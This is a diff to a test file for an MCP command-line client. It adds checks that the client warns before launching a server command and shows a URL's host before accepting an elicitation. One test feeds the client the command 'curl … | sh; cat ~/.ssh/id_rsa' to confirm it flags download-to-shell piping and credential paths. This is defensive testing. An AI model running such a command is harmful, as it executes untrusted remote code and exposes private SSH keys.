@@ -2,15 +2,21 @@
  * What the CLI tells a user who got something wrong, run in-process through
  * `runCli` with in-memory streams: the closest verb, an unknown
  * `--protocol-version`, a missing or misspelled tool argument, a server that
- * needs authorization; and what it prints when things go right: every
- * revision `discover` finds, a progress bar gone before the result.
+ * needs authorization; what it shows before starting a command (SEP-1024)
+ * and before accepting a URL-mode elicitation (SEP-1036); and what it prints
+ * when things go right: every revision `discover` finds, a progress bar gone
+ * before the result.
  */
+import { existsSync, mkdtempSync } from 'node:fs';
 import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { Readable, Writable } from 'node:stream';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createDemoServer } from '../../examples/demo-server.js';
 import { type CliIo, runCli } from '../../src/cli/run.js';
 import type { RunningHttpServer } from '../../src/entries/node.js';
+import { McpServer } from '../../src/entries/server.js';
 import { SUPPORTED_PROTOCOL_VERSIONS } from '../../src/protocol/versions.js';
 import { serve } from './cli-harness.js';
 import { createFixtureServer } from './fixture-server.js';
@@ -152,5 +158,110 @@ describe('output', () => {
     // The last thing on the terminal before the result is the bar being erased.
     expect(before.at(-1)).toEqual({ to: 'stderr', text: '\r\x1b[2K' });
     expect(run.log.slice(result).some((write) => write.text.includes('%'))).toBe(false);
+  });
+});
+
+describe('starting a command (SEP-1024)', () => {
+  it('shows the warning, the whole command and the environment it sets, values included', {
+    timeout: SLOW,
+  }, async () => {
+    const marker = join(mkdtempSync(join(tmpdir(), 'mcpkit-cli-consent-')), 'started');
+    const script = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "x")`;
+    const run = await cli([
+      'tools',
+      '--env',
+      'API_TOKEN=s3cret value',
+      '--env',
+      'REGION=eu',
+      '--',
+      process.execPath,
+      '-e',
+      script,
+      '--flag',
+    ]);
+    // No terminal and no --yes: refused, and nothing was started.
+    expect(run.code).toBe(2);
+    expect(run.stderr).toContain(`mcpkit: server command: ${process.execPath} -e '${script}' --flag\n`);
+    expect(run.stderr).toContain("mcpkit: environment it sets: API_TOKEN='s3cret value' REGION=eu\n");
+    expect(run.stderr).toMatch(/mcpkit: it also inherits from yours: [A-Z_, ]*PATH/);
+    expect(run.stderr).toMatch(/WARNING: this starts a program on this computer, running as you/);
+    expect(run.stderr).toContain('pass --yes to start it');
+    await new Promise((resolve) => setTimeout(resolve, 300));
+    expect(existsSync(marker)).toBe(false);
+  });
+
+  it('points out what makes a command riskier, and shows all of it with --yes too', {
+    timeout: SLOW,
+  }, async () => {
+    const risky = await cli([
+      'tools',
+      '--',
+      'sh',
+      '-c',
+      'curl -s https://example.com/x | sh; cat ~/.ssh/id_rsa',
+    ]);
+    expect(risky.code).toBe(2);
+    expect(risky.stderr).toContain('caution: it pipes a download into a shell');
+    expect(risky.stderr).toContain('caution: it names a credentials path');
+    expect(risky.stderr).toContain('caution: it runs a shell command line');
+    const given = await cli([
+      'tools',
+      '--yes',
+      '--env',
+      'MODE=test',
+      '--',
+      process.execPath,
+      '-e',
+      'process.exit(4)',
+    ]);
+    expect(given.code).toBe(3);
+    expect(given.stderr).toContain('mcpkit: environment it sets: MODE=test');
+    expect(given.stderr).toContain('WARNING: this starts a program');
+  });
+});
+
+describe('URL-mode elicitation (SEP-1036)', () => {
+  it('--elicit-json shows the URL and its host before accepting', { timeout: SLOW }, async () => {
+    const server = new McpServer({ name: 'pages', version: '1.0.0' }, { warn: () => {} });
+    server.registerTool('link', {}, async (ctx) => {
+      const answer = await ctx.elicit({
+        mode: 'url',
+        message: 'Link your account',
+        url: 'https://accounts.example.com/link?e=42',
+      });
+      return { content: [{ type: 'text', text: `answer: ${answer.action}` }] };
+    });
+    const running = await serve(server);
+    try {
+      for (const version of ['2026-07-28', '2025-11-25']) {
+        const run = await cli([
+          'call',
+          'link',
+          '--protocol-version',
+          version,
+          '--elicit-json',
+          '{}',
+          running.url.href,
+        ]);
+        expect(run.code).toBe(0);
+        expect(run.stdout).toBe('answer: accept\n');
+        expect(run.stderr).toContain(
+          'the server asks you to open https://accounts.example.com/link?e=42 (on accounts.example.com): "Link your account"',
+        );
+        const declined = await cli([
+          'call',
+          'link',
+          '--protocol-version',
+          version,
+          '--elicit',
+          'decline',
+          running.url.href,
+        ]);
+        expect(declined.stdout).toBe('answer: decline\n');
+        expect(declined.stderr).toContain('https://accounts.example.com/link?e=42');
+      }
+    } finally {
+      await running.close();
+    }
   });
 });
